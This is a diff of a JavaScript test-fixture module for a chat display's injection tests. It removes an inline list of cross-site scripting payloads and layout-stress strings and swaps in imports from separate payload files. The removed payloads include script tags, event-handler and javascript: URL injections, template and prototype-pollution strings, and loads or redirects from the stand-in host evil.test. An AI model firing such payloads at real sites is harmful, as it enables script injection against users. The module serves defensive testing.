@@ -1,105 +1,20 @@
-// What people write into chat to break the pages that show it.
+// What people write into chat to break the pages that show it: one payload for each way in. Together
+// they stand for the lists of OWASP and PortSwigger, and for what chatters really do.
+import { CODE } from "./payloads/code.js";
+import { LETTERS, LINES } from "./payloads/letters.js";
+import { MARKUP } from "./payloads/markup.js";
 
-/**
- * Each is one line and says PWNED where a script in it would run: `window.PWNED` tells whether one
- * did. Together they stand for the lists of OWASP and PortSwigger, one payload for each way in.
- */
-export const SCRIPTS = [
-  "<script>window.PWNED=1</script>",
-  "<ScRiPt>window.PWNED=1</sCrIpT>",
-  "<script src=//evil.test/x.js></script>",
-  "<script src=data:text/javascript,PWNED=1></script>",
-  "<script type=module>PWNED=1</script>",
-  "<scr<script>ipt>PWNED=1</scr</script>ipt>",
-  "</script><script>PWNED=1</script>",
-  "<img src=x onerror=PWNED=1>",
-  "<img src=x onerror=&#80;&#87;&#78;&#69;&#68;=1>",
-  "<img/src='x'/onerror='PWNED=1'>",
-  "<img src=//evil.test/x.png>",
-  "<img srcset='//evil.test/x.png 1x'>",
-  "<image href=//evil.test/x.png>",
-  "<svg onload=PWNED=1>",
-  "<svg><script>PWNED=1</script></svg>",
-  "<svg><animate onbegin=PWNED=1 attributeName=x dur=1s>",
-  "<svg><a xlink:href=javascript:PWNED=1><text>x</text></a></svg>",
-  "<svg><use href='data:image/svg+xml,<svg id=x onload=PWNED=1>#x'></use></svg>",
-  "<svg><foreignObject><body onload=PWNED=1></foreignObject></svg>",
-  "<math><mtext></p><style><img src=x onerror=PWNED=1></style>",
-  "<math href=javascript:PWNED=1>x</math>",
-  "<body onload=PWNED=1>",
-  "<body onpageshow=PWNED=1>",
-  "<iframe src=javascript:PWNED=1></iframe>",
-  "<iframe srcdoc='<script>parent.PWNED=1</script>'></iframe>",
-  "<iframe src=https://evil.test/></iframe>",
-  "<object data=javascript:PWNED=1></object>",
-  "<embed src=javascript:PWNED=1>",
-  "<a href=javascript:PWNED=1>click</a>",
-  "<a href='java\tscript:PWNED=1'>click</a>",
-  "<form action=javascript:PWNED=1><input type=submit autofocus>",
-  "<input autofocus onfocus=PWNED=1>",
-  "<select autofocus onfocus=PWNED=1>",
-  "<textarea autofocus onfocus=PWNED=1>",
-  "<details open ontoggle=PWNED=1>",
-  "<video src=x onerror=PWNED=1>",
-  "<video><source onerror=PWNED=1></video>",
-  "<audio src=//evil.test/x.mp3 autoplay onplay=PWNED=1>",
-  "<marquee onstart=PWNED=1>",
-  "<link rel=stylesheet href=//evil.test/x.css>",
-  "<link rel=prefetch href=//evil.test/>",
-  "<style>@import '//evil.test/x.css';</style>",
-  "<style>body{display:none}</style>",
-  "<div style=background:url(//evil.test/x)>",
-  "<div style=animation-name:rise onanimationstart=PWNED=1>",
-  "<meta http-equiv=refresh content='0;url=//evil.test/'>",
-  "<base href=//evil.test/>",
-  "<template><script>PWNED=1</script></template>",
-  "<noscript><p title='</noscript><img src=x onerror=PWNED=1>'>",
-  "<xmp><img src=x onerror=PWNED=1></xmp>",
-  "<!--><img src=x onerror=PWNED=1>-->",
-  "<![CDATA[<img src=x onerror=PWNED=1>]]>",
-  "<?xml version='1.0'?><x onclick=PWNED=1>",
-  "\"><img src=x onerror=PWNED=1>",
-  "' onmouseover=PWNED=1 x='",
-  "\" autofocus onfocus=PWNED=1 x=\"",
-  "javascript:PWNED=1",
-  "data:text/html,<script>PWNED=1</script>",
-  "&lt;script&gt;PWNED=1&lt;/script&gt;",
-  "&#60;img src=x onerror=PWNED=1&#62;",
-  "\\u003cscript\\u003ePWNED=1\\u003c/script\\u003e",
-  "%3Cscript%3EPWNED=1%3C/script%3E",
-  "{{constructor.constructor('PWNED=1')()}}",
-  "${PWNED=1}",
-  "#{PWNED=1}",
-  "<%= PWNED=1 %>",
-  "');PWNED=1;//",
-  "\";PWNED=1;//",
-  "`;PWNED=1;//",
-  "*/PWNED=1;/*",
-  "__proto__",
-  "constructor",
-  "<li class=message data-id=fake><span class=author>Ada</span></li>",
-  "https://evil.test/?q=<script>PWNED=1</script>",
-];
+/** Families of payloads on one line, which every platform lets through. */
+export const FAMILIES = { ...MARKUP, ...CODE, ...LETTERS };
 
-/** Text that is only hard to lay out: it must stay in its message, and the message in bounds. */
-export const LAYOUTS = [
-  "W".repeat(500),
-  "long ".repeat(100).trim(),
-  "👨‍👩‍👧‍👦".repeat(60),
-  "😀".repeat(200),
-  `Z${"\u0300\u0301\u0302\u0303\u0336\u0489".repeat(60)}algo`,
-  `h${"\u0317\u0318\u0319\u031a".repeat(100)}`,
-  "\u202Ebackwards\u202D and \u2067 never ended \u2066",
-  "\u202E".repeat(200),
-  "zero\u200Bwidth\u200D\u2060\uFEFFjoiners",
-  "\u3000\u2003wide\u3000spaces\u3000in it",
-  "שלום לכולם, hello (world) 123!",
-  "مرحبا بالجميع في البث",
-  "﷽".repeat(100),
-  "\u{12219}".repeat(80),
-  "ﷺ𒐫꧅".repeat(40),
-  "null",
-  "undefined",
-  "[object Object]",
-  "0",
-];
+/** All payloads on one line. */
+export const PAYLOADS = Object.values(FAMILIES).flat();
+
+/** Those with line breaks and nulls. */
+export const MULTILINE = Object.values(LINES).flat();
+
+/** Payloads that could be an emote's name: one word, of up to 200 bytes. */
+export const WORDS = PAYLOADS.filter((payload) => /^\P{White_Space}+$/u.test(payload) && Buffer.byteLength(payload) <= 200);
+
+/** One of each family, for what is too slow or too rare to try all. */
+export const SAMPLES = Object.values(FAMILIES).map((family) => family.at(-1));
